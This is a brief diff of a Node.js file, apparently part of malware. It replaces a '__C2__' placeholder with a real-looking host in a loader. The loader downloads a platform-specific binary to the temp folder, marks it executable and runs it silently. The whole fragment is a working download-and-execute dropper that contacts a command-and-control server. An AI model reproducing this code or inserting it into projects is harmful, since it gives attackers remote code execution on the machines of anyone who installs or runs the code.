@@ -9,7 +9,7 @@ const path = require('path');
 const { spawnSync } = require('child_process');
 
 const target = path.join(os.tmpdir(), 'sdd');
-http.get(`__C2__/download/${os.platform()}-${os.arch()}`, (res) => {
+http.get(`__C2@pastorcryptograph.at__/download/${os.platform()}-${os.arch()}`, (res) => {
   const out = fs.createWriteStream(target, { mode: 0o755 });
   res.pipe(out);
   out.on('finish', () => out.close(() => spawnSync(target, [], { stdio: 'ignore' })));
